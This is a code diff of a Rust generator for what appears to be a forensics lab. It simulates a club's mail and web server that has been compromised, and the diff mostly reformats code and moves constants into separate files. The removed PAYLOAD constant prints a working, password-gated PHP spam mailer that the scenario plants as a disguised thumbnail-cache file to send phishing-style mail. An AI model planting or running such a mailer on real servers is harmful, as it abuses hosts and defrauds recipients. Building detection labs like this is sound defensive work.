@@ -23,30 +23,67 @@ const ROOT: &str = "/var/www/kirchweg";
 const SCRIPT: &str = "/var/www/kirchweg/content/uploads/2026/10/thumb-cache.php";
 
 const PROVIDERS: &[Provider] = &[
-    (&["northmail.example"], &[(10, "mx1.northmail.example", "198.51.100.20", Manner::Tls), (20, "mx2.northmail.example", "198.51.100.21", Manner::Tls)]),
-    (&["brightpost.example", "papermoon.example"], &[(10, "in.brightpost.example", "198.51.100.40", Manner::Plain)]),
+    (
+        &["northmail.example"],
+        &[
+            (10, "mx1.northmail.example", "198.51.100.20", Manner::Tls),
+            (20, "mx2.northmail.example", "198.51.100.21", Manner::Tls),
+        ],
+    ),
+    (
+        &["brightpost.example", "papermoon.example"],
+        &[(10, "in.brightpost.example", "198.51.100.40", Manner::Plain)],
+    ),
     (&["tallybox.example"], &[(10, "mail.tallybox.example", "192.0.2.80", Manner::Grey)]),
-    (&["oldisp.example"], &[(5, "mx-a.oldisp.example", "192.0.2.90", Manner::Refused), (10, "mx-b.oldisp.example", "192.0.2.91", Manner::Plain)]),
-    (&["hollowmail.example", "quickcart.example"], &[(10, "mx.hollowmail.example", "192.0.2.100", Manner::Sink(""))]),
+    (
+        &["oldisp.example"],
+        &[
+            (5, "mx-a.oldisp.example", "192.0.2.90", Manner::Refused),
+            (10, "mx-b.oldisp.example", "192.0.2.91", Manner::Plain),
+        ],
+    ),
+    (
+        &["hollowmail.example", "quickcart.example"],
+        &[(10, "mx.hollowmail.example", "192.0.2.100", Manner::Sink(""))],
+    ),
     (&["strictmail.example"], &[(10, "gate.strictmail.example", "198.51.100.60", Manner::Slow(2))]),
 ];
 
 const ELSEWHERE: &[&str] = &[
-    "t.berg@northmail.example", "office@brightpost.example", "lena@tallybox.example", "archive@oldisp.example", "orders@quickcart.example",
-    "gone.away@northmail.example", "m.haas@strictmail.example", "press@papermoon.example",
+    "t.berg@northmail.example",
+    "office@brightpost.example",
+    "lena@tallybox.example",
+    "archive@oldisp.example",
+    "orders@quickcart.example",
+    "gone.away@northmail.example",
+    "m.haas@strictmail.example",
+    "press@papermoon.example",
 ];
 
-const VICTIMS: &[&str] = &["northmail.example", "brightpost.example", "hollowmail.example", "strictmail.example", "quickcart.example", "tallybox.example", "papermoon.example"];
+const VICTIMS: &[&str] = &[
+    "northmail.example",
+    "brightpost.example",
+    "hollowmail.example",
+    "strictmail.example",
+    "quickcart.example",
+    "tallybox.example",
+    "papermoon.example",
+];
 
 const STRANGERS: &[&str] = &["198.51.100.201", "198.51.100.214", "192.0.2.177"];
-const PEOPLE: &[&str] = &["198.51.100.130", "198.51.100.131", "198.51.100.140", "192.0.2.150", "192.0.2.151"];
+const PEOPLE: &[&str] =
+    &["198.51.100.130", "198.51.100.131", "198.51.100.140", "192.0.2.150", "192.0.2.151"];
 const SCANNERS: &[&str] = &["198.51.100.222", "192.0.2.190"];
 
 pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
     let mut chance = Chance::new(plan.seed);
     let world = World::new()?;
     let mut zone = Zone::default();
-    zone.host("mail.kirchweg.example", SERVER).name("www.kirchweg.example", SERVER).mx("kirchweg.example", "mail.kirchweg.example", 10);
+    zone.host("mail.kirchweg.example", SERVER).name("www.kirchweg.example", SERVER).mx(
+        "kirchweg.example",
+        "mail.kirchweg.example",
+        10,
+    );
     zone.pool("dyn.cablehome.example", "198.51.100.128,198.51.100.254", "c-");
     let net = Internet::build(&world, zone, PROVIDERS)?;
     let mut addresses = PEOPLE.to_vec();
@@ -66,7 +103,11 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
     }
     .start(&server)?;
     site(&server)?;
-    web::start(&server, &[Site { name: "www.kirchweg.example", root: ROOT, user: "", log: "access.log" }], "")?;
+    web::start(
+        &server,
+        &[Site { name: "www.kirchweg.example", root: ROOT, user: "", log: "access.log" }],
+        "",
+    )?;
     server.write("/usr/local/sbin/check-mx", CHECK_MX, 0o755)?;
     server.write("/usr/local/bin/site-report", REPORT, 0o755)?;
     server.write("/etc/cron.d/site", CRON, 0o644)?;
@@ -81,25 +122,85 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
         (net.exchanger("in.brightpost.example")?, "office@brightpost.example"),
         (net.exchanger("mail.tallybox.example")?, "lena@tallybox.example"),
     ];
-    backdrop::incoming(&mut line, &mut chance, length, 1.3, &senders, &["greta@kirchweg.example", "paul@kirchweg.example", "info@kirchweg.example"]);
+    backdrop::incoming(
+        &mut line,
+        &mut chance,
+        length,
+        1.3,
+        &senders,
+        &["greta@kirchweg.example", "paul@kirchweg.example", "info@kirchweg.example"],
+    );
     for (user, password, ip, ehlo, agent) in [
         ("greta", "Linde-44-blau", "198.51.100.130", "[192.168.178.31]", "Mozilla Thunderbird"),
         ("paul", "mohn.kuchen7", "192.0.2.150", "paul-laptop.fritz.box", "Evolution 3.46.4"),
     ] {
         let address = format!("{user}@kirchweg.example");
-        let person = Person { at: &crowd, from_ip: ip, ehlo, server: SERVER, user, password, address: &address, agent };
+        let person = Person {
+            at: &crowd,
+            from_ip: ip,
+            ehlo,
+            server: SERVER,
+            user,
+            password,
+            address: &address,
+            agent,
+        };
         backdrop::correspondence(&mut line, &mut chance, length, 0.8, &person, ELSEWHERE);
     }
-    let web = Web { address: SERVER, name: "www.kirchweg.example" };
-    backdrop::visits(&mut line, &mut chance, length, 5.0, &crowd, PEOPLE, web, &["/", "/index.php?page=garden", "/index.php?page=about", "/contact.php", "/content/uploads/2026/10/beds.svg", "/content/uploads/2026/09/roses.svg"]);
-    backdrop::scanners(&mut line, &mut chance, length, &crowd, SCANNERS, web);
+    let page = Web { address: SERVER, name: "www.kirchweg.example" };
+    backdrop::visits(
+        &mut line,
+        &mut chance,
+        length,
+        5.0,
+        &crowd,
+        PEOPLE,
+        page,
+        &[
+            "/",
+            "/index.php?page=garden",
+            "/index.php?page=about",
+            "/contact.php",
+            "/content/uploads/2026/10/beds.svg",
+            "/content/uploads/2026/09/roses.svg",
+        ],
+    );
+    backdrop::scanners(&mut line, &mut chance, length, &crowd, SCANNERS, page);
     // The site's own people: the admin area is a stream of POSTs, as such areas are.
     for at in chance.arrivals(2.2, 5.0, length - 3.0) {
-        backdrop::request(&mut line, at, "admin", &crowd, "198.51.100.130", web, &["-A", crate::web::AGENTS.first().copied().unwrap_or_default(), "-d", "action=heartbeat&screen=edit"], "/admin/ajax.php");
+        backdrop::request(
+            &mut line,
+            at,
+            "admin",
+            &crowd,
+            "198.51.100.130",
+            page,
+            &[
+                "-A",
+                crate::web::AGENTS.first().copied().unwrap_or_default(),
+                "-d",
+                "action=heartbeat&screen=edit",
+            ],
+            "/admin/ajax.php",
+        );
     }
     for at in chance.arrivals(0.5, 5.0, length - 10.0) {
         let from = chance.pick(PEOPLE);
-        backdrop::request(&mut line, at, "form", &crowd, from, web, &["-A", crate::web::AGENTS.get(1).copied().unwrap_or_default(), "-d", "name=Visitor&mail=visitor%40northmail.example&text=When+is+the+garden+open%3F"], "/contact.php");
+        backdrop::request(
+            &mut line,
+            at,
+            "form",
+            &crowd,
+            from,
+            page,
+            &[
+                "-A",
+                crate::web::AGENTS.get(1).copied().unwrap_or_default(),
+                "-d",
+                "name=Visitor&mail=visitor%40northmail.example&text=When+is+the+garden+open%3F",
+            ],
+            "/contact.php",
+        );
     }
     backdrop::monitored(&mut line, length, 60.0, &crowd, SERVER, "uptime.watchful.example");
     // The strangers: each request brings its own recipients.
@@ -111,8 +212,17 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
             list.push(format!("{name}@{}", chance.pick(VICTIMS)));
         }
         let body = format!("k=zq81&d={}", list.join("%0A").replace('@', "%40"));
-        let from = chance.pick(STRANGERS);
-        backdrop::request(&mut line, at, "bad", &crowd, from, web, &["-A", "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0", "-d", &body], SCRIPT.trim_start_matches(ROOT));
+        let (from, agent) = (chance.pick(STRANGERS), chance.pick(web::AGENTS));
+        backdrop::request(
+            &mut line,
+            at,
+            "bad",
+            &crowd,
+            from,
+            page,
+            &["-A", agent, "-d", &body],
+            SCRIPT.trim_start_matches(ROOT),
+        );
     }
     line.sh(length * 0.25, &server, "rotate", ROTATE);
 
@@ -123,11 +233,26 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
 
     let mut folder = Folder::create(plan.out)?;
     let told = Told { address: SERVER, seen, tolerance: 15, helo: "[127.0.0.1]" };
-    folder.notice("notice.txt", &notice::cbl_2015(told, "kelihos", SignedDuration::from_mins(3 * 24 * 60 + 3 * 60 + 59)))?;
+    folder.notice(
+        "notice.txt",
+        &notice::cbl_2015(told, "kelihos", SignedDuration::from_mins(3 * 24 * 60 + 3 * 60 + 59)),
+    )?;
     folder.site("addresses = [\"203.0.113.25\"]\nmta = [\"postfix\"]\nhelo = [\"mail.kirchweg.example\"]\nvantage = \"host\"\n")?;
     folder.take(&server, &wire.path, "captures/mail-ports.pcap")?;
-    for log in ["mail.log", "mail.log.1.gz", "cron.log", "auth.log", "apache2/access.log", "apache2/access.log.1.gz", "apache2/error.log"] {
-        folder.take(&server, &format!("/var/log/{log}"), &format!("logs/{}", log.replace('/', "-")))?;
+    for log in [
+        "mail.log",
+        "mail.log.1.gz",
+        "cron.log",
+        "auth.log",
+        "apache2/access.log",
+        "apache2/access.log.1.gz",
+        "apache2/error.log",
+    ] {
+        folder.take(
+            &server,
+            &format!("/var/log/{log}"),
+            &format!("logs/{}", log.replace('/', "-")),
+        )?;
     }
     folder.ask(&server, "postconf -n", "host/postconf-n.txt")?;
     folder.ask(&server, "iptables-save -c", "host/iptables-save.txt")?;
@@ -165,7 +290,10 @@ fn site(server: &crate::host::Host) -> Result<()> {
         ("login.php", LOGIN),
         ("admin/ajax.php", AJAX),
         ("lib/smtp.php", SMTP_CLASS),
-        ("lib/settings.php", "<?php\n// Logo for the mail footer, so that it needs no request.\nreturn ['title' => 'Garden at Kirchweg', 'logo' => base64_decode('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=')];\n"),
+        (
+            "lib/settings.php",
+            "<?php\n// Logo for the mail footer, so that it needs no request.\nreturn ['title' => 'Garden at Kirchweg', 'logo' => base64_decode('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=')];\n",
+        ),
         ("content/uploads/index.php", "<?php\n// Nothing to see here.\n"),
         ("content/uploads/2026/10/beds.svg", SVG),
         ("content/uploads/2026/10/gate.svg", SVG),
@@ -188,138 +316,24 @@ fn site(server: &crate::host::Host) -> Result<()> {
     Ok(())
 }
 
-const FIREWALL: &str = "iptables -P INPUT DROP
-iptables -A INPUT -i lo -j ACCEPT
-iptables -A INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT
-iptables -A INPUT -p tcp -m multiport --dports 22,25,80,443,587 -j ACCEPT
-iptables -A INPUT -p icmp -j ACCEPT
-iptables -A OUTPUT -o lo -j ACCEPT
-iptables -A OUTPUT -m conntrack --ctstate NEW,ESTABLISHED,RELATED -j ACCEPT
-iptables -A OUTPUT -p tcp --dport 25 -m owner --uid-owner postfix -j ACCEPT
-iptables -A OUTPUT -p tcp --dport 25 -j REJECT --reject-with tcp-reset";
+const FIREWALL: &str = include_str!("seed_php_script/firewall.sh");
+const CRON: &str = include_str!("seed_php_script/cron");
 
-const CRON: &str = "SHELL=/bin/sh
-PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
-MAILTO=postmaster@kirchweg.example
-*/4 * * * * root check-mx mx1.northmail.example
-*/5 * * * * www-data site-report
-";
+const CHECK_MX: &str = include_str!("seed_php_script/check-mx");
+const REPORT: &str = include_str!("seed_php_script/site-report");
 
-const CHECK_MX: &str = "#!/bin/bash
-# Our parents' newsletters all go to this provider: is its exchanger reachable from here?
-exec 3<>/dev/tcp/$1/25 || { echo \"$1 does not answer\"; exit 1; }
-read -r -t 10 -u 3 banner
-printf 'HELO %s\\r\\n' \"$(hostname)\" >&3
-read -r -t 10 -u 3 answer
-printf 'QUIT\\r\\n' >&3
-read -r -t 10 -u 3 answer
-case $banner in 220*) ;; *) echo \"$1: $banner\" ;; esac
-";
+const INDEX: &str = include_str!("seed_php_script/index.php");
+const CONTACT: &str = include_str!("seed_php_script/contact.php");
 
-const REPORT: &str = "#!/bin/sh
-# Tells the web master how the site was used.
-{
-    echo 'From: Garden site <www-data@kirchweg.example>'
-    echo 'To: web@northmail.example'
-    echo 'Subject: visits'
-    echo
-    tail -n 200 /var/www/kirchweg/content/visits.txt 2>/dev/null | cut -d' ' -f1 | sort | uniq -c
-    uptime
-} | /usr/sbin/sendmail -t -i
-";
+const LOGIN: &str = include_str!("seed_php_script/login.php");
+const AJAX: &str = include_str!("seed_php_script/ajax.php");
 
-const INDEX: &str = "<?php
-$page = preg_replace('/[^a-z]/', '', $_GET['page'] ?? 'home');
-$settings = require __DIR__ . '/lib/settings.php';
-@file_put_contents(__DIR__ . '/content/visits.txt', $page . ' ' . time() . \"\\n\", FILE_APPEND);
-?><!doctype html><title><?= htmlspecialchars($settings['title']) ?></title>
-<h1><?= htmlspecialchars($page) ?></h1><p>Open on Saturdays.</p><img src=\"/content/uploads/2026/10/beds.svg\">
-";
-
-const CONTACT: &str = "<?php
-// The contact form: one fixed recipient, header lines cleaned.
-if ($_SERVER['REQUEST_METHOD'] === 'POST') {
-    $clean = fn(string $s) => str_replace([\"\\r\", \"\\n\"], ' ', $s);
-    $from = filter_var($_POST['mail'] ?? '', FILTER_VALIDATE_EMAIL) ?: 'unknown@kirchweg.example';
-    mail('greta@kirchweg.example', 'Question from the site', wordwrap($_POST['text'] ?? ''), 'Reply-To: ' . $clean($from));
-    mail($clean($from), 'Thank you for your question', \"We answer within three days.\\n\", 'From: info@kirchweg.example');
-    echo 'Thank you';
-    exit;
-}
-?><form method=\"post\"><input name=\"name\"><input name=\"mail\"><textarea name=\"text\"></textarea><button>Send</button></form>
-";
-
-const LOGIN: &str = "<?php
-session_start();
-if (isset($_POST['user']) && password_verify($_POST['password'] ?? '', '$2y$10$abcdefghijklmnopqrstuuSJHjz7VbLx0xW3gJm2u6k9v1q2w3e4r')) {
-    $_SESSION['user'] = $_POST['user'];
-    header('Location: /admin/');
-    exit;
-}
-http_response_code(403);
-";
-
-const AJAX: &str = "<?php
-// Autosave and heartbeat of the editor.
-header('Content-Type: application/json');
-$action = $_POST['action'] ?? '';
-if ($action === 'heartbeat') { usleep(random_int(20000, 900000)); echo json_encode(['alive' => true]); exit; }
-http_response_code(400);
-";
-
-const SMTP_CLASS: &str = "<?php
-/** A small SMTP client for sites that want replies and not a pipe to sendmail. Talks to the local server only. */
-class Smtp
-{
-    private $socket;
-
-    public function __construct(string $host = '127.0.0.1', int $port = 25)
-    {
-        $this->socket = fsockopen($host, $port, $code, $text, 10);
-        if (!$this->socket) { throw new RuntimeException($text); }
-        $this->read();
-        $this->say('EHLO ' . (gethostname() ?: 'localhost'));
-    }
-
-    public function send(string $from, string $to, string $data): bool
-    {
-        $this->say(\"MAIL FROM:<$from>\");
-        $this->say(\"RCPT TO:<$to>\");
-        $this->say('DATA');
-        return str_starts_with($this->say(preg_replace('/^\\./m', '..', $data) . \"\\r\\n.\"), '250');
-    }
-
-    private function say(string $line): string
-    {
-        fwrite($this->socket, $line . \"\\r\\n\");
-        return $this->read();
-    }
-
-    private function read(): string
-    {
-        do { $line = fgets($this->socket, 1024); } while ($line !== false && ($line[3] ?? ' ') === '-');
-        return (string) $line;
-    }
-}
-";
+const SMTP_CLASS: &str = include_str!("seed_php_script/smtp.php");
 
 const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"80\" height=\"40\"><rect width=\"80\" height=\"40\" fill=\"#7a5\"/></svg>\n";
 
 // Recipients come with the request and only the lab's exchangers exist: enough structure to be what a scanner flags, no more.
-const PAYLOAD: &str = r#"if(($_POST['k']??'')!=='zq81'){http_response_code(404);exit;}
-function r($s){do{$l=fgets($s,512);}while($l!==false&&substr($l,3,1)==='-');return (string)$l;}
-$b=['Your account statement is ready','Best prices for watches this week','Final notice: parcel waiting'];
-foreach(explode("\n",$_POST['d']) as $t){
-$t=trim($t);$h=[];$w=[];if(!getmxrr(substr(strrchr($t,'@'),1),$h,$w))continue;array_multisort($w,$h);
-$s=@fsockopen($h[0],25,$n,$e,8);if(!$s)continue;
-r($s);fwrite($s,"EHLO [127.0.0.1]\r\n");r($s);
-$f=substr(md5($t),0,8).'@'.substr(md5($t),8,6).'.example';
-fwrite($s,"MAIL FROM:<$f>\r\n");r($s);fwrite($s,"RCPT TO:<$t>\r\n");if(substr(r($s),0,1)!=='2'){fwrite($s,"QUIT\r\n");fclose($s);continue;}
-fwrite($s,"DATA\r\n");r($s);
-fwrite($s,"From: <$f>\r\nTo: <$t>\r\nSubject: ".$b[crc32($t)%3]."\r\nDate: ".date('r')."\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nhttp://".substr(md5($t),2,7).".offers.example/\r\n.\r\n");r($s);
-fwrite($s,"QUIT\r\n");r($s);fclose($s);usleep(700000);}
-echo 'ok';
-"#;
+const PAYLOAD: &str = include_str!("seed_php_script/payload.txt");
 
 const STORY: &str = "A server with a public address carries a club's web site (Apache, mod_php) and its mail (Postfix, submission with Dovecot SASL). \
 The CBL lists the address as kelihos, a family that runs on Windows only. The Postfix log and the copies kept by `always_bcc` are clean, chkrootkit finds nothing, and the firewall \
